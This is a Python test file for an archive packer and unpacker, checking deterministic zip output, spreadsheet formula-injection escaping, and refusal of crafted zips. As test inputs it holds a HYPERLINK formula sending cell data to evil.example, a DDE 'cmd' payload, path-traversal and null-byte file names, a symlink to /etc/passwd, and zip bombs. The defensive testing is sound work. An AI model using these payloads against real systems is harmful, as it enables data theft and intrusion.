"""The archive as a file: always the same bytes, and refused whole where anybody made it by hand."""

import csv
import io
import json
import struct
import zipfile

import pytest

from programs.archive import unpacking
from programs.archive.cells import BYTE_ORDER_MARK, FORMULA_STARTS, safe_cell, sheet
from programs.archive.faults import ArchiveRefused
from programs.archive.packing import as_text, packed
from programs.archive.tables import TABLES
from programs.archive.unpacking import MEGABYTE, unpacked
from tests.architecture.source import imports, modules, relative, tree_of
from tests.unit.archives import a_document, a_row

#: Reads somebody else's.
READERS = ["programs/replay/sheet.py"]


def a_sound_document() -> dict:
    return a_document() | {"attachments": []}


def rezipped(changes: dict[str, bytes | str | None] | None = None, how: int = zipfile.ZIP_STORED) -> bytes:
    """The sound archive with members changed, added, or left out (None)."""
    out, changes = io.BytesIO(), changes or {}
    with (
        zipfile.ZipFile(io.BytesIO(packed(a_sound_document()))) as old,
        zipfile.ZipFile(out, "w", how) as new,
    ):
        for name in [*old.namelist(), *(name for name in changes if name not in old.namelist())]:
            content = changes.get(name, old.read(name) if name in old.namelist() else None)
            if content is not None:
                new.writestr(name, content)
    return out.getvalue()


def refusal(content: bytes) -> str:
    with pytest.raises(ArchiveRefused) as refused:
        unpacked(content)
    return "\n".join(refused.value.faults)


# --- writing -------------------------------------------------------------------------------------
def test_the_same_document_is_the_same_bytes():
    assert packed(a_sound_document()) == packed(a_sound_document())


def test_nothing_in_it_is_compressed_or_dated():
    with zipfile.ZipFile(io.BytesIO(packed(a_sound_document()))) as archive:
        members = archive.infolist()
    assert {member.compress_type for member in members} == {zipfile.ZIP_STORED}
    assert {member.date_time for member in members} == {(1980, 1, 1, 0, 0, 0)}


def test_it_holds_data_schema_words_and_a_sheet_for_each_table():
    with zipfile.ZipFile(io.BytesIO(packed(a_sound_document()))) as archive:
        names, words = archive.namelist(), archive.read("README.txt").decode()
    sheets = [f"tables/{table.name}.csv" for table in TABLES]
    assert names == ["README.txt", "data.json", "schema.json", *sheets, "attachments/"]
    assert all(f"\n{table.name}" in words for table in TABLES)
    assert max(len(line) for line in words.splitlines()) < 81


def test_what_was_packed_is_unpacked():
    assert unpacked(packed(a_sound_document())) == a_sound_document()


def test_an_archive_that_somebody_packed_again_is_read():
    assert unpacked(rezipped(how=zipfile.ZIP_DEFLATED)) == a_sound_document()


# --- cells ---------------------------------------------------------------------------------------
@pytest.mark.parametrize("start", FORMULA_STARTS)
@pytest.mark.parametrize("before", ["", " ", "   ", "\u00a0", "\u3000"])
def test_no_cell_of_text_is_a_formula(start, before):
    text = f'{before}{start}HYPERLINK("http://evil.example?"&A1)'
    assert safe_cell(text) == f"'{text}"


@pytest.mark.parametrize("value", ["words", "a=b", "'=1", "…", "3 - 2", ""])
def test_other_text_stays_as_it_is(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (None, ""),
        (True, "yes"),
        (False, "no"),
        (-1, "-1"),
        (0, "0"),
        (1.5, "1.5"),
        ([], "[]"),
        ({"a": 1}, '{"a": 1}'),
    ],
)
def test_what_is_no_text_is_written_plainly(value, cell):
    assert safe_cell(value) == cell


def test_every_cell_of_every_sheet_goes_through_it():
    document = a_sound_document()
    document["person"]["name"] = "=cmd|' /C calc'!A0"
    document["overrides"][0]["reason"] = '+1\n=2,"3"'
    document["decisions"][0]["stage_change"] = -1
    with zipfile.ZipFile(io.BytesIO(packed(document))) as archive:
        person, overrides, decisions = (
            list(csv.DictReader(io.StringIO(archive.read(f"tables/{name}.csv").decode("utf-8-sig"))))
            for name in ("person", "overrides", "decisions")
        )
    assert person[0]["name"] == "'=cmd|' /C calc'!A0"
    assert overrides[0]["reason"] == '\'+1\n=2,"3"'
    assert decisions[0]["stage_change"] == "-1"


def test_a_sheet_says_what_its_letters_are():
    assert packed(a_sound_document()).count(BYTE_ORDER_MARK.encode()) == len(TABLES)
    assert sheet(["=a"], [["b"]]) == "'=a\r\nb\r\n"


# --- reading what anybody may have made ----------------------------------------------------------
@pytest.mark.parametrize("content", [b"", b"PK", b"no zip", b"PK\x05\x06" + b"\0" * 18, b"\0" * 1000])
def test_what_is_no_archive_is_refused(content):
    assert refusal(content)


def test_a_torn_archive_is_refused():
    whole = packed(a_sound_document())
    for end in range(1, len(whole), len(whole) // 40):
        assert refusal(whole[:end])


def test_a_flipped_bit_is_noticed():
    whole = bytearray(packed(a_sound_document()))
    whole[whole.index(b'"format"') + 3] ^= 1
    assert "data.json" in refusal(bytes(whole))


@pytest.mark.parametrize(
    "name",
    [
        "../data.json",
        "/etc/passwd",
        "tables/../../x.csv",
        "attachments/../x",
        "attachments/.hidden",
        "attachments/a/b.pdf",
        "attachments/x.PDF\0.exe",
        "C:\\x",
        "tables\\person.csv",
        "else.txt",
        "data.json/",
        "DATA.JSON",
    ],
)
def test_a_name_that_no_archive_has_is_refused(name):
    assert "no archive has a file of that name" in refusal(rezipped({name: "x"}))


def test_a_member_that_is_there_twice_is_refused(recwarn):
    out = io.BytesIO(packed(a_sound_document()))
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("data.json", "{}")
    assert "data.json: is there twice" in refusal(out.getvalue())


def test_a_link_is_refused():
    out = io.BytesIO(packed(a_sound_document()))
    with zipfile.ZipFile(out, "a") as archive:
        link = zipfile.ZipInfo("attachments/passwd")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    assert "is a link" in refusal(out.getvalue())


def test_an_encrypted_member_is_refused():
    content = bytearray(packed(a_sound_document()))
    at = content.index(b"PK\x01\x02")
    flags = struct.unpack_from("<H", content, at + 8)[0]
    struct.pack_into("<H", content, at + 8, flags | 1)
    assert "is encrypted" in refusal(bytes(content))


def test_a_bomb_is_refused_before_it_is_opened(monkeypatch):
    monkeypatch.setattr(unpacking, "_read", lambda archive: pytest.fail("opened"))
    bomb = rezipped({"attachments/bomb": b"\0" * 5 * MEGABYTE}, zipfile.ZIP_DEFLATED)
    assert "grows more than a hundredfold" in refusal(bomb)


def test_a_bomb_that_lies_about_its_size_is_read_no_further(monkeypatch):
    monkeypatch.setattr(unpacking, "LARGEST_DATA", 1000)
    assert "data.json: is larger than" in refusal(rezipped({"data.json": b" " * 2000}))


def test_too_many_members_are_refused():
    many = {f"attachments/{number}.txt": "x" for number in range(300)}
    assert "at most 200 are read" in refusal(rezipped(many))


def test_too_much_is_refused(monkeypatch):
    monkeypatch.setattr(unpacking, "LARGEST_TOTAL", 5000)
    assert "unpacked, the archive is larger" in refusal(rezipped())
    monkeypatch.setattr(unpacking, "LARGEST_ARCHIVE", 5000)
    assert "the archive is larger" in refusal(rezipped())


def test_an_archive_without_data_is_refused():
    assert "data.json: is missing" in refusal(rezipped({"data.json": None}))


@pytest.mark.parametrize(
    ("content", "where"),
    [
        (b'{"format": "rehab-personal-archive",\n "version": }', "line 2, column 13"),
        (b"\xff\xfe{}", "byte 0 is not UTF-8"),
        (b'{"version": NaN}', "NaN is not a number"),
        (b'{"version": 1, "version": 1}', "names 'version' twice"),
        (b"[" * 100_000, "nested too deeply"),
        (b"7" * 5000, "data.json"),
        (b"", "line 1, column 1"),
        (b"null", "not an archive of a person"),
    ],
)
def test_data_that_cannot_be_read_is_refused_with_its_place(content, where):
    assert where in refusal(rezipped({"data.json": content}))


def test_a_fault_in_a_row_is_named_with_file_and_path():
    document = a_sound_document()
    document["decisions"][0]["date"] = "yesterday"
    assert refusal(rezipped({"data.json": as_text(document)})).startswith(
        "data.json: decisions[0].date: is not"
    )


@pytest.mark.parametrize("text", ["\ud800", "x\0y"])
def test_a_character_that_no_database_keeps_is_refused(text):
    document = a_sound_document()
    document["person"]["name"] = text
    assert "person.name: holds a character that is none" in refusal(
        rezipped({"data.json": json.dumps(document)})
    )


def test_attachments_are_refused_until_something_keeps_them():
    document = a_document() | {"attachments": [a_row("attachments")]}
    assert "keeps no files" in refusal(rezipped({"data.json": as_text(document)}))


def test_nobody_writes_a_csv_of_her_own():
    """One function makes every cell; a second one would forget what the first knows."""
    writers = [
        relative(path)
        for path in modules("accounts", "programs", "rehab")
        for _, name in imports(tree_of(path))
        if name == "csv"
    ]
    assert sorted(writers) == ["programs/archive/cells.py", *READERS]
